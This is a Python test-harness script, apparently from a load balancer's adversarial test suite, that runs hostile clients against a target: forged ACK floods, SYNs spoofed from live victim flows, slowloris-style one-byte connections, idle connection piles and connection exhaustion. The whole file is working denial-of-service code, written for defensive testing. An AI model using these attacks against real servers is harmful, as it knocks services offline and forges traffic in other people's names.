"""Hostile clients, run on an attacker host: raw packets (scapy) and misbehaving sockets.

    python3 attack.py '{"op": "forged_ack", "host": VIP, "port": 80, "count": 500, ...}'

argv[1] is a JSON spec; the result is one JSON line on stdout.  An attack
that lasts runs until the file `stop` exists, writing a count to `progress`
as it goes (0 as soon as it is under way), so that the caller waits on
state, never on a sleep.  With `go` and `ready` in the spec, a lasting attack
gets ready (creates `ready`) and strikes when `go` exists.  Used by the
adversarial tests (tests/test_adversarial.py) and by the fault runs
(bench/faults.py); the ops:

- forged_ack: ACKs carrying a request, with made-up sequence and
  acknowledgement numbers (no handshake, so no valid SYN cookie), from random
  source ports.  `count` packets, or with `pps` at that rate until `stop`.
- spoofed_syn: SYNs to the back-ends' service port from the address and port
  of a live flow, plain (ack 0) and fused (no ACK flag, ack != 0), with
  random numbers.  The flows: `victim_ip`, `victim_port` x `backends`, or
  with `pps` the [src, sport, dst] triples of the JSON file `victims_file`,
  read again each round (the caller refreshes it as flows come and go).
- tiny: `conns` connections send a header one byte a segment and never
  finish it; with `reconnect`, a connection the server closed is opened again.
- idle: `conns` completed handshakes that never send a request.
- churn: `conns` kept-alive connections, one request each, all left open.
- request: one connection sends the hex bytes of `payload_file`; prints the
  response's status.

Needs python3 and, for the raw-packet ops, scapy and CAP_NET_RAW.
"""

import json
import os
import random
import socket
import sys
import threading
import time

spec = json.loads(sys.argv[1])
op = spec["op"]


def stopped():
    return os.path.exists(spec["stop"])


def progress(n):
    with open(spec["progress"] + ".tmp", "w") as f:
        f.write(str(n))
    os.replace(spec["progress"] + ".tmp", spec["progress"])


def connect():
    s = socket.create_connection((spec["host"], spec["port"]), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def forged_acks(n):
    from scapy.all import IP, TCP, Raw
    req = b"GET /obj/ HTTP/1.1\r\nHost: x\r\n\r\n"
    return [IP(dst=spec["host"]) /
            TCP(sport=random.randint(20000, 60000), dport=spec["port"], flags="PA",
                seq=random.getrandbits(32), ack=random.getrandbits(32)) / Raw(req)
            for _ in range(n)]


def spoofed_syns(victims, n):
    """Per flow, n plain SYNs (ack 0) and n fused ones (ack != 0), from the flow's
    client address and port to the back-end's service port."""
    from scapy.all import IP, TCP
    pkts = []
    for src, sport, dst in victims:
        for _ in range(n):
            pkts.append(IP(src=src, dst=dst) /
                        TCP(sport=sport, dport=spec["port"], flags="S",
                            seq=random.getrandbits(32), ack=0))
            pkts.append(IP(src=src, dst=dst) /
                        TCP(sport=sport, dport=spec["port"], flags="S",
                            seq=random.getrandbits(32), ack=random.getrandbits(32) | 1))
    return pkts


def victims_now():
    try:
        with open(spec["victims_file"]) as f:
            return [tuple(v) for v in json.load(f)]
    except (OSError, ValueError):
        return []


def arm():
    """With `go` in the spec: say the attack is ready (scapy loaded, which takes
    seconds on a busy host) by creating `ready`, and wait for `go` to strike."""
    if "go" not in spec:
        return
    open(spec["ready"], "w").close()
    while not os.path.exists(spec["go"]) and not stopped():
        time.sleep(0.01)


def paced(make):
    """Send what make() builds, at spec["pps"], until stop; returns the count sent."""
    from scapy.all import conf
    s = conf.L3socket()
    arm()
    progress(0)  # the attack is on from here
    sent, t0 = 0, time.monotonic()
    try:
        while not stopped():
            for p in make():
                s.send(p)
                sent += 1
                ahead = sent / spec["pps"] - (time.monotonic() - t0)
                if ahead > 0:
                    time.sleep(ahead)
            progress(sent)
            if sent == 0:
                time.sleep(0.05)  # nothing to send yet (no live flow)
    finally:
        s.close()
    return sent


if op == "forged_ack":
    if spec.get("pps"):
        print(json.dumps({"sent": paced(lambda: forged_acks(50))}))
    else:
        from scapy.all import send
        pkts = forged_acks(spec["count"])
        send(pkts, verbose=False)
        print(json.dumps({"sent": len(pkts)}))
elif op == "spoofed_syn":
    if spec.get("pps"):
        flows = set()

        def batch():
            v = victims_now()
            flows.update(v)
            return spoofed_syns(v, 1)
        sent = paced(batch)
        print(json.dumps({"sent": sent, "flows": len(flows)}))
    else:
        from scapy.all import send
        victims = [(spec["victim_ip"], spec["victim_port"], dst) for dst in spec["backends"]]
        pkts = spoofed_syns(victims, spec["count"])
        send(pkts, verbose=False)
        print(json.dumps({"sent": len(pkts)}))
elif op == "tiny":
    # Connections that send a header one byte a segment and never finish it.
    sent, opened = [0], [0]
    lock = threading.Lock()

    def one(k):
        while not stopped():
            try:
                s = connect()
            except OSError:
                time.sleep(0.1)
                if spec.get("reconnect"):
                    continue
                return
            with lock:
                opened[0] += 1
            try:
                s.sendall(b"GET /obj/ HTTP/1.1\r\nHost: x\r\nX-Slow: ")
                while not stopped():
                    s.send(b"a")
                    with lock:
                        sent[0] += 1
                    time.sleep(0.001)
            except OSError:
                pass
            s.close()
            if not spec.get("reconnect"):
                return
    arm()
    ts = [threading.Thread(target=one, args=(k,)) for k in range(spec["conns"])]
    for t in ts:
        t.start()
    while not stopped():
        progress(sent[0])
        time.sleep(0.05)
    for t in ts:
        t.join()
    print(json.dumps({"bytes": sent[0], "connections": opened[0]}))
elif op == "idle":
    # Completed handshakes that never send a request.
    socks, refused = [], 0
    for _ in range(spec["conns"]):
        try:
            socks.append(connect())
        except OSError:
            refused += 1
        progress(len(socks))
    while not stopped():
        time.sleep(0.05)
    print(json.dumps({"opened": len(socks), "refused": refused}))
elif op == "churn":
    # Kept-alive connections, one request each, all left open: each holds an
    # entry in a back-end agent's map.  Sixteen at a time: a refused one
    # waits out the front-end's SYN timeouts.
    socks, done = [], {"answered": 0, "failed": 0}
    lock = threading.Lock()
    req = ("GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % spec["path"]).encode()

    def worker(n):
        for _ in range(n):
            ok = False
            try:
                s = connect()
                s.settimeout(30)
                s.sendall(req)
                ok = s.recv(65536).startswith(b"HTTP/1.1 200")
                with lock:
                    socks.append(s)
            except OSError:
                pass
            with lock:
                done["answered" if ok else "failed"] += 1
                progress(done["answered"] + done["failed"])
    ts = [threading.Thread(target=worker, args=(spec["conns"] // 16,)) for _ in range(16)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    while not stopped():
        time.sleep(0.05)
    print(json.dumps(done))
elif op == "request":
    s = connect()
    with open(spec["payload_file"]) as f:
        s.sendall(bytes.fromhex(f.read()))
    s.settimeout(20)
    buf = b""
    try:
        while b"\r\n\r\n" not in buf:
            b = s.recv(65536)
            if not b:
                break
            buf += b
        status = int(buf.split(b" ", 2)[1]) if buf else None
    except (OSError, IndexError, ValueError) as e:
        status = repr(e)
    print(json.dumps({"status": status}))
else:
    sys.exit(f"attack.py: unknown op {op!r}")
